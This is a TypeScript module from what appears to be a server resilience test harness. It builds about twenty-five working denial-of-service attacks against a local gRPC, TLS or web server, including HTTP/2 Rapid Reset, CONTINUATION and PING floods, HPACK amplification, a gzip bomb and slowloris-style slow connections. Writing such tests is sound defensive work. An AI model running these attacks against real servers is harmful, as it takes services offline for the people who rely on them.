/**
 * The attacks that a server has to survive. Each runs in one process ({@link file://./attack.ts}) until that is stopped.
 */
import { connect as connectHttp2, constants, type ClientHttp2Session } from "node:http2"
import type { Socket } from "node:net"

import * as Http2Frames from "../../test/integration/Http2Frames.ts"
import { type Attacker, flood, keepCalls, speakHttp2 } from "./Connections.ts"

/** The attacked server: gRPC in plaintext, gRPC over TLS, or the web page. */
export type Subject = "grpc" | "tls" | "page"

export interface Attack {
  readonly name: string
  /** A description, with the size of the attack. */
  readonly title: string
  readonly subject: Subject
  /** Whether it competes for slots; its goal is higher. */
  readonly isFairness?: boolean
  /** How long the attack takes to reach its size, in milliseconds, if flow control slows it down. */
  readonly buildUp?: number
  /** Starts the attack, which ends with the signal of the attacker. */
  readonly begin: (attacker: Attacker) => void
}

const { endStream } = Http2Frames.flag

/** The frames of a complete call. */
const wholeCall = ({ target }: Attacker) => {
  const block = Http2Frames.callHeaders(target.path)
  const message = Http2Frames.message(target.message)
  return (stream: number) =>
    Buffer.concat([Http2Frames.headers(stream, block), Http2Frames.data(stream, message, endStream)])
}

/** The headers of a call without a message. */
const halfOpenCall = ({ target }: Attacker, more: Http2Frames.Headers = {}) => {
  const block = Http2Frames.callHeaders(target.path, more)
  return (stream: number) => Http2Frames.headers(stream, block)
}

/** The interval in which an attacker replaces held calls that the server ended, in milliseconds. */
const patience = 100

/** A connection of node:http2, which obeys flow control, for requests larger than a window. */
const keepSessions = (
  attacker: Attacker,
  count: number,
  settings: { readonly initialWindowSize?: number },
  begin: (session: ClientHttp2Session, socket: Socket) => void
) =>
  attacker.keep(count, (socket) => {
    const session = connectHttp2("http://localhost", { createConnection: () => socket, settings })
    session.on("error", () => socket.destroy())
    session.once("goaway", () => {
      attacker.counts.goaways++
      socket.destroy()
    })
    session.once("close", () => socket.destroy())
    session.once("remoteSettings", () => begin(session, socket))
  })

interface Upload {
  readonly path: string
  /** The chunks of the request, which has no end. */
  readonly pieces: () => Iterable<Buffer>
}

/** Keeps a number of requests open on a connection, each of which sends its chunks and then waits. */
const keepUploads = (
  attacker: Attacker,
  session: ClientHttp2Session,
  socket: Socket,
  calls: number,
  upload: Upload
) => {
  let open = 0
  const one = () => {
    const stream = session.request(
      {
        [constants.HTTP2_HEADER_METHOD]: "POST",
        [constants.HTTP2_HEADER_PATH]: upload.path,
        [constants.HTTP2_HEADER_CONTENT_TYPE]: "application/grpc",
        [constants.HTTP2_HEADER_TE]: "trailers"
      },
      { endStream: false }
    )
    open++
    attacker.counts.calls++
    stream.on("error", () => attacker.counts.reset++)
    stream.on("close", () => open--)
    stream.on("end", () => attacker.counts.answered++)
    stream.resume()
    const pieces = upload.pieces()[Symbol.iterator]()
    const write = () => {
      while (!stream.destroyed && !stream.writableEnded) {
        const { done, value } = pieces.next()
        if (done === true) return
        if (!stream.write(value)) {
          stream.once("drain", write)
          return
        }
      }
    }
    write()
  }
  const fill = () => {
    if (session.closed || session.destroyed) return
    for (let missing = calls - open; missing > 0; missing--) one()
  }
  fill()
  attacker.every(1_000, socket, fill)
}

const kib = 1024
const mib = 1024 * kib

/** A message of a given length without its last byte. */
const unfinished = (length: number) => {
  const piece = Buffer.alloc(64 * kib)
  return function* () {
    yield Http2Frames.message(piece.subarray(0, piece.length - 1), { length })
    for (let left = length - piece.length; left > 0; left -= piece.length) yield piece.subarray(0, left)
  }
}

/** A HealthCheckRequest with a `service` of a given length. */
const healthRequest = (length: number): Buffer => {
  const varint = Buffer.of(
    (length & 0x7f) | 0x80,
    ((length >> 7) & 0x7f) | 0x80,
    ((length >> 14) & 0x7f) | 0x80,
    length >> 21
  )
  return Http2Frames.message(Buffer.concat([Buffer.of(0x0a), varint, Buffer.alloc(length, "x")]))
}

const served = Buffer.from("onlinebooks.recommendations.v1.RecommendationsService")

/** ServerReflectionRequest: `list_services`, and `file_containing_symbol`. */
const reflectionRequests = [
  Http2Frames.message(Buffer.concat([Buffer.of(0x3a, 1), Buffer.from("*")])),
  Http2Frames.message(Buffer.concat([Buffer.of(0x22, served.length), served]))
]

const getPage = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"

/** Reads a number of bytes in an interval, and no more. */
const readSlowly = (attacker: Attacker, socket: Socket, bytes: number) => {
  socket.pause()
  attacker.every(1_000, socket, () => void socket.read(bytes))
}

/** Floods HTTP/2 connections with frames of one or many streams. */
const http2Flood =
  (prepare: (attacker: Attacker) => (next: () => number) => Buffer, isRead: boolean) =>
  (attacker: Attacker): void => {
    const frames = prepare(attacker)
    flood(attacker, 4, (socket) => {
      let stream = -1
      const next = () => (stream += 2)
      if (isRead) speakHttp2(attacker, socket)
      else socket.write(Buffer.concat([Http2Frames.preface, Http2Frames.settings()]))
      return () => frames(next)
    })
  }

const repeat = (times: number, make: () => Buffer): Buffer => Buffer.concat(Array.from({ length: times }, make))

export const attacks: ReadonlyArray<Attack> = [
  {
    name: "commas",
    title: "100 calls on one connection, each with a -bin header of 15 kB of commas",
    subject: "grpc",
    begin: (attacker) =>
      keepCalls(attacker, {
        connections: 1,
        calls: 100,
        frames: halfOpenCall(attacker, { "x-bin": ",".repeat(15_000) }),
        refill: patience
      })
  },
  {
    name: "commas-by-reference",
    title: "100 calls on one connection, 16 kB in all, each with 12 kB of commas by references to HPACK's table",
    subject: "grpc",
    begin: (attacker) => {
      const block = Http2Frames.callHeaders(attacker.target.path)
      const commas = Http2Frames.indexed("x-bin", ",".repeat(4_000))
      const { newest } = Http2Frames
      keepCalls(attacker, {
        connections: 1,
        calls: 100,
        frames: (stream, isFirst) =>
          Http2Frames.headers(stream, Buffer.concat([block, isFirst ? commas : newest, newest, newest])),
        refill: patience
      })
    }
  },
  {
    name: "commas-of-a-stranger",
    title: "100 calls with 15 kB of commas, by a client with a certificate that is not on the list",
    subject: "tls",
    begin: (attacker) =>
      keepCalls(attacker, {
        connections: 1,
        calls: 100,
        frames: halfOpenCall(attacker, { "x-bin": ",".repeat(15_000) }),
        refill: patience
      })
  },
  {
    name: "unfinished",
    title: "100 requests of 4 MiB on one connection, without their last byte",
    subject: "grpc",
    buildUp: 25_000,
    begin: (attacker) =>
      keepSessions(attacker, 1, {}, (session, socket) =>
        keepUploads(attacker, session, socket, 100, {
          path: attacker.target.path,
          pieces: unfinished(4 * mib)
        })
      )
  },
  {
    name: "watch-names",
    title: "100 calls of Health.Watch on one connection, with names of 4 MB",
    subject: "grpc",
    buildUp: 25_000,
    begin: (attacker) => {
      const request = healthRequest(4_000_000)
      keepSessions(attacker, 1, {}, (session, socket) =>
        keepUploads(attacker, session, socket, 100, {
          path: "/grpc.health.v1.Health/Watch",
          pieces: function* () {
            for (let at = 0; at < request.length; at += 64 * kib) yield request.subarray(at, at + 64 * kib)
          }
        })
      )
    }
  },
  {
    name: "reflection",
    title: "100 calls of reflection on one connection, 50,000 requests each, of which no answer is read",
    subject: "grpc",
    begin: (attacker) => {
      const batch = repeat(500, () => Buffer.concat(reflectionRequests))
      keepSessions(attacker, 1, { initialWindowSize: 0 }, (session, socket) =>
        keepUploads(attacker, session, socket, 100, {
          path: "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
          pieces: function* () {
            for (let sent = 0; sent < 50_000; sent += 1_000) yield batch
          }
        })
      )
    }
  },
  {
    name: "gzip",
    title: "100 calls at a time on one connection, with 4 kB of gzip that are 4 MB",
    subject: "grpc",
    begin: (attacker) => {
      const block = Http2Frames.callHeaders(attacker.target.path, { "grpc-encoding": "gzip" })
      const message = Http2Frames.bomb(4_000_000)
      keepCalls(attacker, {
        connections: 1,
        calls: 100,
        frames: (stream) => Buffer.concat([Http2Frames.headers(stream, block), Http2Frames.data(stream, message)]),
        refill: patience
      })
    }
  },
  {
    name: "idle",
    title: "16,000 connections on which nothing comes",
    subject: "grpc",
    begin: (attacker) => attacker.keep(16_000, (socket) => void socket.resume(), 1_000)
  },
  {
    name: "half-handshakes",
    title: "3,000 connections with half a TLS handshake",
    subject: "tls",
    begin: (attacker) =>
      attacker.keep(
        3_000,
        (socket) => {
          socket.resume()
          // the first bytes of a ClientHello of 512 bytes
          socket.write(Buffer.from("16030102000100", "hex"))
        },
        1_000
      )
  },
  {
    name: "half-open",
    title: "2 connections with 100 calls each, whose messages do not come",
    subject: "grpc",
    isFairness: true,
    begin: (attacker) =>
      keepCalls(attacker, { connections: 2, calls: 100, frames: halfOpenCall(attacker), refill: patience })
  },
  {
    name: "zero-windows",
    title: "10 connections with 100 calls each, with windows of no bytes",
    subject: "grpc",
    isFairness: true,
    begin: (attacker) =>
      keepCalls(attacker, {
        connections: 10,
        calls: 100,
        frames: wholeCall(attacker),
        windows: { ofStream: 0 },
        refill: patience
      })
  },
  {
    name: "greedy",
    title: "8 connections with 100 calls each, replaced as they are answered",
    subject: "grpc",
    isFairness: true,
    begin: (attacker) => keepCalls(attacker, { connections: 8, calls: 100, frames: wholeCall(attacker) })
  },
  {
    name: "over-limit",
    title: "4 connections with 5,000 calls a second each, however many streams they may have",
    subject: "grpc",
    isFairness: true,
    begin: (attacker) => {
      const call = wholeCall(attacker)
      attacker.keep(4, (socket) => {
        speakHttp2(attacker, socket)
        let stream = -1
        const startedAt = performance.now()
        attacker.every(5, socket, () => {
          // bytes that the server does not read in time are dropped
          if (socket.connecting || socket.writableNeedDrain || !socket.writable) return
          const due = Math.floor((performance.now() - startedAt) * 5) - (stream + 1) / 2
          const calls = Math.min(250, Math.max(0, due))
          attacker.counts.calls += calls
          socket.write(repeat(calls, () => call((stream += 2))))
          stream += 2 * (due - calls)
        })
      })
    }
  },
  {
    name: "unread",
    title: "20 connections with 100 calls each, of which no byte is read",
    subject: "grpc",
    isFairness: true,
    begin: (attacker) => {
      const call = wholeCall(attacker)
      attacker.keep(20, (socket) => {
        socket.pause()
        let stream = -1
        socket.write(Buffer.concat([Http2Frames.preface, Http2Frames.settings()]))
        const fill = () => {
          if (socket.connecting || socket.writableNeedDrain || !socket.writable) return
          attacker.counts.calls += 100
          socket.write(repeat(100, () => call((stream += 2))))
        }
        attacker.every(patience, socket, fill)
      })
    }
  },
  {
    name: "rapid-reset",
    title: "4 connections of calls that are reset at once, by half a core",
    subject: "grpc",
    isFairness: true,
    begin: http2Flood((attacker) => {
      const call = wholeCall(attacker)
      return (next) =>
        repeat(100, () => {
          const stream = next()
          return Buffer.concat([call(stream), Http2Frames.reset(stream)])
        })
    }, true)
  },
  {
    name: "dead",
    title: "4 connections with 100 calls each, then GOAWAY, then DATA on stream 0",
    subject: "grpc",
    begin: (attacker) => {
      const call = halfOpenCall(attacker)
      attacker.keep(4, (socket) => {
        speakHttp2(attacker, socket)
        let stream = -1
        attacker.counts.calls += 100
        socket.write(
          Buffer.concat([
            repeat(100, () => call((stream += 2))),
            Http2Frames.goaway(),
            Http2Frames.data(0, Buffer.from("x"))
          ])
        )
      })
    }
  },
  {
    name: "continuation-flood",
    title: "4 connections of CONTINUATION without end, by half a core",
    subject: "grpc",
    begin: http2Flood(({ target }) => {
      const block = Http2Frames.callHeaders(target.path)
      const piece = Http2Frames.literal("x", "x".repeat(50))
      return (next) => {
        const stream = next()
        return stream === 1
          ? Http2Frames.headers(stream, block, 0)
          : repeat(100, () => Http2Frames.continuation(1, piece, 0))
      }
    }, true)
  },
  {
    name: "ping-flood",
    title: "4 connections of PING whose answers are not read, by half a core",
    subject: "grpc",
    begin: http2Flood(() => {
      const pings = repeat(500, () => Http2Frames.ping())
      return () => pings
    }, false)
  },
  {
    name: "settings-flood",
    title: "4 connections of SETTINGS whose answers are not read, by half a core",
    subject: "grpc",
    begin: http2Flood(() => {
      const settings = repeat(500, () => Http2Frames.settings({ [Http2Frames.initialWindowSize]: 65_535 }))
      return () => settings
    }, false)
  },
  {
    name: "empty-frames",
    title: "4 connections of DATA frames without data, by half a core",
    subject: "grpc",
    begin: http2Flood((attacker) => {
      const call = halfOpenCall(attacker)
      const empty = (stream: number) => repeat(500, () => Http2Frames.data(stream))
      const frames = empty(1)
      return (next) => {
        const stream = next()
        return stream === 1 ? call(stream) : frames
      }
    }, true)
  },
  {
    name: "pipelining",
    title: "20 connections that pipeline GET / and read nothing",
    subject: "page",
    begin: (attacker) => {
      const requests = Buffer.from(getPage.repeat(500))
      attacker.keep(20, (socket) => {
        socket.pause()
        const write = () => {
          do attacker.counts.calls += 500
          while (socket.writable && socket.write(requests))
        }
        socket.on("drain", write)
        write()
      })
    }
  },
  {
    name: "slow-readers",
    title: "200 connections that ask for 100 pages at once and read 1 kB a second",
    subject: "page",
    begin: (attacker) =>
      attacker.keep(
        200,
        (socket) => {
          attacker.counts.calls += 100
          socket.write(getPage.repeat(100))
          readSlowly(attacker, socket, kib)
        },
        1_000
      )
  },
  {
    name: "slow-bodies",
    title: "500 connections with a request whose body comes by a byte a second",
    subject: "page",
    begin: (attacker) =>
      attacker.keep(
        500,
        (socket) => {
          attacker.counts.calls++
          socket.resume()
          socket.write("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
          attacker.every(1_000, socket, () => socket.writable && socket.write("x"))
        },
        1_000
      )
  },
  {
    name: "slow-headers",
    title: "1,000 connections with a request whose headers come by a line a second (slowloris)",
    subject: "page",
    begin: (attacker) =>
      attacker.keep(
        1_000,
        (socket) => {
          attacker.counts.calls++
          socket.resume()
          socket.write("GET / HTTP/1.1\r\nHost: localhost\r\n")
          attacker.every(1_000, socket, () => socket.writable && socket.write("x: y\r\n"))
        },
        1_000
      )
  },
  {
    name: "upgrades",
    title: "150 connections that offer an upgrade, and stay",
    subject: "page",
    begin: (attacker) =>
      attacker.keep(
        150,
        (socket) => {
          attacker.counts.calls++
          socket.resume()
          socket.write("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
        },
        1_000
      )
  }
]
